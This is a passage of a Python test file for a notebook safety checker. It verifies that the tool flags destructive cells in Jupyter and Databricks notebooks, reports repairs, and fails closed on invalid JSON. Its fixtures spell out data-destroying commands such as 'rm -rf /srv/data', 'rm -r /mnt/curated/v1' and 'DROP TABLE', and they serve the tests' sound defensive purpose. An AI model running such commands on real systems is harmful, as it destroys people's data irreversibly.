    assert (finding["cell"], finding["line"], finding["cell_id"]) == (4, 2, nb.cells[4].id)
    assert report["errors"] == []
    assert done.returncode == (1 if finding["decision"] == "block" else 0)
    text = _cli("check", "nb.ipynb", cwd=tmp_path)
    assert "nb.ipynb:cell 4:2:" in text.stdout


def test_cli_repaired_notebook_passes_with_a_note_and_its_danger_still_blocks(tmp_path: Path) -> None:
    harmless = _without(_code("import pandas as pd\ndf = pd.read_csv('sales.csv')", 0), "outputs", "execution_count")
    (tmp_path / "quiet.ipynb").write_text(json.dumps(_raw_notebook(harmless), indent=1), encoding="utf-8")
    done = _cli("check", "quiet.ipynb", "--format", "json", cwd=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and report["errors"] == []
    assert [n["message"] for n in report["notes"]] == [
        "repaired as Jupyter opens it (nbformat's normalisation): cells[0]: missing 'outputs' added; "
        "cells[0]: missing 'execution_count' added"]
    assert "note  quiet.ipynb: repaired as Jupyter opens it" in _cli("check", "quiet.ipynb", cwd=tmp_path).stdout
    dangerous = _without(_code("!rm -rf /srv/data", 0), "outputs", "execution_count")
    (tmp_path / "loud.ipynb").write_text(json.dumps(_raw_notebook(dangerous), indent=1), encoding="utf-8")
    done = _cli("check", "loud.ipynb", "--format", "json", cwd=tmp_path)
    assert done.returncode == 1
    assert [f["rule"] for f in json.loads(done.stdout)["findings"]] == ["shell.rm-recursive"]


def test_cli_not_a_notebook_fails_closed_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "broken.ipynb").write_text("{\"cells\": [", encoding="utf-8")
    done = _cli("check", "broken.ipynb", "--format", "json", cwd=tmp_path)
    assert done.returncode == 2
    assert json.loads(done.stdout)["errors"] == [
        {"path": "broken.ipynb", "message": "not a notebook: not JSON (Expecting value at line 1 column 12)",
         "line": None, "cell": None}]
    assert "Traceback" not in done.stderr + done.stdout


def test_databricks_language_magics_on_the_first_line(tmp_path):
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    from analyzer.frontends import Options, analyze
    from analyzer.model import Location

    book = new_notebook()
    book.cells = [new_code_cell("%sql\nSELECT count(*) FROM sales.orders"),
                  new_code_cell("%sql\n-- retire the old table\nDROP TABLE sales.customers_v1"),
                  new_code_cell("%sh\nls /dbfs/mnt\nrm -rf /dbfs/mnt/raw/v1"),
                  new_code_cell("%fs rm -r /mnt/curated/v1"),
                  new_code_cell("%md\n# Notes: we never DROP TABLE here")]
    analysis = analyze("notebook", nbformat.writes(book), Location("db.ipynb"), Options())
    assert analysis.errors == []
    assert sorted((op.rule, op.location.cell, op.location.line) for op in analysis.operations) == [
        ("shell.rm-recursive", 2, 3), ("shell.rm-recursive", 3, 1), ("sql.drop-table", 1, 3)]
